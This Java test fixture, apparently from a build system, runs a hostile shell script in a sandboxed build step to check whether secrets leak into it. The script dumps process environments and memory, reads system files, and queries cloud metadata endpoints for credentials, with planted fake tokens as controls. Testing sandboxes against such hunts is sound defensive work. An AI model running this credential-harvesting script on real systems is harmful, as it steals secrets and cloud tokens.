package dev.alnage.app.process;

import dev.alnage.app.images.ImageMaker;
import dev.alnage.app.images.ImageRecipe;
import dev.alnage.evidence.Bytes;
import dev.alnage.evidence.Digest;
import dev.alnage.evidence.Tree;
import dev.alnage.factory.source.secrets.RuleSet;
import dev.alnage.factory.source.secrets.SecretScan;
import dev.alnage.factory.source.secrets.Waivers;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.TreeSet;
import org.eclipse.jgit.api.Git;
import org.eclipse.jgit.api.errors.GitAPIException;
import org.eclipse.jgit.lib.PersonIdent;

/**
 * A build whose one step looks for credentials everywhere that it can: variables, processes and their memory, every file, sockets, and the
 * addresses at which clouds give them out. What it planted itself, in a file and in memory alone, is the control: a hunt that does not bring
 * that home has not looked.
 */
record TokenHunt(Map<String, Bytes> loot) {
    /** In a file of the repository, made of parts here so that nobody's scan of our own sources finds it. */
    static final String IN_A_FILE = "ghp" + "_R4wTz8KqLm2Vx7Yc9Nb3Jd5Hs6Pf1G04WhfB";
    private static final Path BUSYBOX = Path.of("/bin/busybox");
    private static final PersonIdent DEVELOPER = new PersonIdent("Developer", "developer@small.invalid");
    private static final String PIPELINE = """
            version: 1
            name: small/hunt
            assurance: moderate
            images:
              box: factory/hunt@%s
            steps:
              hunt:
                image: box
                run: [/work/src/busybox, sh, /work/src/hunt.sh]
                in: { src: source }
                out: loot
            """;
    /** The token that is in memory alone is put together while it runs. */
    private static final String SCRIPT = """
            b=/work/src/busybox
            word=alnt
            for part in _kQ9xZ3 vT7mW2 pL5rY8 cN4bH6 jF1dG0 sKe2Ra Xu3Wo5 B; do word=$word$part; done
            { $b env; for file in /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/[0-9]*/status /proc/[0-9]*/maps /proc/self/mountinfo /proc/keys /proc/key-users \\
                /proc/cmdline /proc/net/unix; do echo "== $file"; $b cat $file; done; $b dmesg; } > loot/processes 2>&1
            dump() {
                while read range rights rest; do
                    case $range$rights in ffff*|*---*) continue;; esac
                    start=$((0x${range%%-*})); end=$((0x${range##*-}))
                    [ $((end - start)) -le 33554432 ] || continue
                    # dd counts from where the last one left off
                    exec 3< $1/mem
                    $b dd bs=4096 skip=$((start / 4096)) count=$(((end - start) / 4096)) <&3
                done < $1/maps >> loot/memory
            }
            dump /proc/$$ 2>> loot/refused
            for process in /proc/[0-9]*; do
                [ $process = /proc/$$ ] || ( dump $process ) 2>> loot/refused
            done
            $b find / \\( -path /proc -o -path /sys -o -path /work/loot -o -path /out \\) -prune -o -type f -size -4096 ! -name busybox ! -name cp -print 2>> loot/refused |
                while read file; do echo "== $file"; $b cat "$file"; done > loot/files 2>> loot/refused
            $b find / -type s > loot/sockets 2>> loot/refused
            for address in 169.254.169.254/latest/meta-data/iam/security-credentials/ 169.254.170.2/v2/credentials '[fd00:ec2::254]/latest/api/token' \\
                metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token 127.0.0.1/; do
                $b wget -q -T 1 -O - http://$address
            done > loot/metadata 2>> loot/refused
            exit 0
            """;

    /** Lets a factory build it. */
    static TokenHunt in(SmallFactory factory) throws IOException, InterruptedException {
        var repository = factory.home.root().resolve("source/hunt");
        var run = factory.client.start(repository, commit(repository, image(factory)), true);
        var state = factory.await(run.id());
        var step = state.findStep("hunt").orElseThrow();
        if (!step.outputs().containsKey("loot")) {
            throw new AssertionError(step + "\n" + factory.logs());
        }
        var loot = new TreeMap<String, Bytes>();
        for (var entry : Tree.parse(blob(factory, step.outputs().get("loot"))).entries().entrySet()) {
            if (entry.getValue() instanceof Tree.Entry.File file) {
                loot.put(entry.getKey(), blob(factory, file.digest()));
            }
        }
        return new TokenHunt(loot);
    }

    private static Bytes blob(SmallFactory factory, Digest digest) throws IOException {
        return factory.client.findBlob(digest).orElseThrow();
    }

    private static Digest image(SmallFactory factory) throws IOException, InterruptedException {
        var layer = new ImageRecipe.Files("one static program", Map.of("bin/cp", BUSYBOX));
        var images = factory.home.images().resolve("hunt");
        var digest = new ImageMaker(factory.home.root().resolve("hunt-work")).make(new ImageRecipe("factory/hunt", List.of(layer), List.of(), new TreeMap<>()), images);
        try (var paths = Files.walk(images)) {
            paths.filter(Files::isRegularFile).forEach(file -> file.toFile().setReadable(true, false));
        }
        return digest;
    }

    private static Digest commit(Path repository, Digest image) throws IOException {
        Files.createDirectories(repository.resolve(".alnage"));
        Files.writeString(repository.resolve(".alnage/pipeline.yaml"), String.format(PIPELINE, image));
        Files.writeString(repository.resolve("hunt.sh"), SCRIPT);
        // there is no shell in an image: what is hostile brings its own along
        Files.copy(BUSYBOX, repository.resolve("busybox"));
        Files.writeString(repository.resolve("notes.txt"), "remember: " + IN_A_FILE + "\n");
        try (var git = Git.init().setDirectory(repository.toFile()).setInitialBranch("main").call()) {
            git.add().addFilepattern(".").call();
            return Digest.gitCommit(git.commit().setMessage("Hunt").setAuthor(DEVELOPER).setCommitter(DEVELOPER).setSign(false).call().getName());
        } catch (GitAPIException e) {
            throw new IOException("the repository cannot be made: " + e.getMessage(), e);
        }
    }

    /** What our own engine takes for a credential, as {@code FILE RULE}. */
    TreeSet<String> findings() {
        var scan = SecretScan.of(RuleSet.shipped(), Waivers.NONE);
        var found = new TreeSet<String>();
        loot.forEach((name, content) -> scan.scan(name, content).findings().forEach(finding -> found.add(name + " " + finding.rule())));
        return found;
    }

    /** Whether it got hold of these bytes. */
    boolean has(byte[] secret) {
        var wanted = new String(secret, java.nio.charset.StandardCharsets.ISO_8859_1);
        return loot.values().stream().anyMatch(content -> new String(content.toArray(), java.nio.charset.StandardCharsets.ISO_8859_1).contains(wanted));
    }
}
